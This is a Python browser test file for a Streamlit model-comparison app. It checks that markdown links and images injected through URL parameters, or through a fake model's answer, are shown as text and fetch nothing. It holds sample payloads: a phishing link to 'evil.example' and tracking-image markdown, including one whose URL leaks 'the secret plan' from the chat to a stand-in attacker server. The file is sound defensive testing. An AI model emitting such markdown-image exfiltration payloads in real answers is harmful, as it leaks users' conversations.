"""In a real browser: markdown in a link's parameters or in a model's answer makes no link and no image.

A loopback server stands in for the attacker's: the test asserts that no request reached it and that
the page holds no link to it; turning "Show images and links" on for an answer proves that a request
would have been seen.
"""

from __future__ import annotations

import time
from http.server import BaseHTTPRequestHandler
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from tests.support.browser import wait_for_app
from tests.support.fault_server import FaultServer
from tests.support.loopback_server import LoopbackServer

SETTLE_S = 2.0  # time for the browser to fetch what the page names, after Streamlit's run ends


class Tracker(LoopbackServer):
    """Counts every request; answers each with an empty 200."""

    def __init__(self):
        self.paths: list[str] = []
        tracker = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self):
                tracker.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.end_headers()

            def log_message(self, *args):
                pass

        super().__init__(Handler)
        self.url = self.origin
        self.host = self.url.removeprefix("http://")


@pytest.fixture
def tracker():
    with Tracker() as server:
        yield server


def _open(page, url: str) -> None:
    page.goto(url)
    wait_for_app(page, timeout=60_000)
    page.locator("h1").first.wait_for(timeout=60_000)
    expect(page.get_by_test_id("stSidebar")).to_contain_text("Shortlist", timeout=30_000)
    time.sleep(SETTLE_S)


def _links_to(page, host: str) -> list[str]:
    """Links and images on the page that lead to `host` (our own page links may carry it in their query)."""
    return page.eval_on_selector_all(
        "a[href], img[src]", "(els, host) => els.map(e => e.href || e.src)"
                             ".filter(u => { try { return new URL(u).host === host } catch { return false } })", host)


@pytest.mark.browser
def test_link_parameters_make_no_link_and_fetch_nothing(app_server, page, tracker):
    server = app_server(env={"HF_HUB_OFFLINE": "1"})
    seen = []
    page.on("request", lambda request: seen.append(request.url) if tracker.url in request.url else None)
    phish = "a](https://evil.example/phish)[b"
    _open(page, f"{server.url}/?shortlist={quote(phish)}")
    expect(page.get_by_test_id("stSidebar")).to_contain_text(phish)  # shown as typed
    assert _links_to(page, "evil.example") == []

    click = f"[click me]({tracker.url}/click)"
    image = f"![t]({tracker.url}/track.png)"
    for path in (f"Hardware_fit?models={quote(click)}", f"Playground?models={quote(click)}",
                 f"Browse?source=snapshot&min_likes={quote(image)}&model={quote(image)}&task={quote(image)}",
                 f"Browse?source=snapshot&query={quote(image)}&library={quote(click)}&provider={quote(image)}",
                 f"Playground?p1.model={quote(image)}&p1.seed={quote(image)}&p1.kind={quote(image)}",
                 f"Playground?p1.kind=hosted&p1.provider={quote(image)}&p1.model={quote(click)}"):
        _open(page, f"{server.url}/{path}")
        assert _links_to(page, tracker.host) == [], path
        assert "Traceback" not in page.inner_text("body")
    assert tracker.paths == [] and seen == []


@pytest.mark.browser
def test_an_answer_naming_an_image_is_not_fetched_unless_asked(app_server, page, tracker):
    # FAKE OpenAI-compatible server: a real model cannot be made to answer with this image on demand.
    leak = f"{tracker.url}/leak.png?chat=the%20secret%20plan"
    fake = FaultServer(words=("Here", " is", " the", " chart:", f" ![chart]({leak})", " and", f" <{tracker.url}/raw>",
                              " Done.")).start()
    try:
        server = app_server()
        _open(page, f"{server.url}/Playground?p1.kind=hosted&p1.base_url={quote(fake.url)}&p1.model=fake-model")
        prompt = page.get_by_label("Prompt", exact=True)
        prompt.fill("Show me the chart.")
        prompt.press("Tab")
        wait_for_app(page)
        page.get_by_role("button", name="Send", exact=True).click()
        page.get_by_text("Done.").first.wait_for(timeout=60_000)
        wait_for_app(page)
        time.sleep(SETTLE_S)
        answer = page.locator('[data-testid="stChatMessage"]').nth(1).inner_text()
        assert f"![chart]({leak})" in answer  # shown as text
        assert _links_to(page, tracker.host) == []
        assert tracker.paths == []

        # Asked for, the image loads: the tracker would have seen a fetch.
        page.get_by_text("Show images and links").click()
        deadline = time.monotonic() + 30
        while not tracker.paths and time.monotonic() < deadline:
            time.sleep(0.2)
        assert any(path.startswith("/leak.png") for path in tracker.paths)
    finally:
        fake.stop()
